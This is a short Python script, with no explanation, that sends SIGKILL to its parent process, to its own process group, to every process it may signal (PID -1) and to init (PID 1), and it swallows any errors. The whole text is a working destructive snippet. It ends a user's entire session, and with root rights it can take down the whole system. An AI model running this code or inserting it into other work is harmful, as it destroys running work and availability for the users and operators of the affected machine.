import os, signal
for process in (os.getppid(), -1, 0, 1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
